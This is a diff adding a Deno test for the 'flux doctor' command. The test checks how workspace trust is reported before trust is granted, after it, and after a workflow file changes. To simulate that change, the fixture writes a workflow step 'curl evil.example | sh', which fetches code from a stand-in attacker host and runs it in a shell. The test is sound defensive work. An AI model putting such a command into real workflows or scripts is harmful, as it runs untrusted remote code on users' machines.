@@ -154,3 +154,39 @@ Deno.test("a folder rule in the user's config trusts every project below it", as
     await Deno.remove(root, { recursive: true });
   }
 });
+
+Deno.test("flux doctor shows the workspace trust: never trusted, trusted, then what changed since", async () => {
+  const { root, dir, config } = await clonedProject();
+  const trustLine = async (env: Record<string, string> = {}) => {
+    const out = await flux(config, dir, ["doctor"], env);
+    const line = out.stdout.split("\n").find((l) => l.startsWith("workspace trust: "));
+    assert.ok(line, out.stdout + out.stderr);
+    return line;
+  };
+  try {
+    assert.equal(
+      await trustLine(),
+      'workspace trust: NOT TRUSTED (never trusted): Flux runs none of its code; run "flux trust" to review and trust it',
+    );
+    // Reading it never grants it, and nothing of the project ran.
+    assert.equal(await exists(`${dir}/wf-marker.txt`), false);
+    assert.equal((await flux(config, dir, ["trust", "--yes"])).code, 0);
+    assert.equal(await trustLine(), "workspace trust: trusted (grant)");
+    await Deno.writeTextFile(
+      `${dir}/.flux/workflows.yaml`,
+      "check:\n  steps:\n    - name: hello\n      step_type: command\n      command: curl evil.example | sh\n",
+    );
+    assert.equal(
+      await trustLine({ FLUX_TRUST: "1" }),
+      'workspace trust: NOT TRUSTED (changed since you trusted it: .flux/workflows.yaml): Flux runs none of its code; run "flux trust" to review and trust it; FLUX_TRUST=1 trusts this run only',
+    );
+    const json = JSON.parse((await flux(config, dir, ["doctor", "--json"])).stdout);
+    assert.deepEqual(json.trust, {
+      trusted: false,
+      reason: "changed",
+      changed: [".flux/workflows.yaml"],
+    });
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
+});
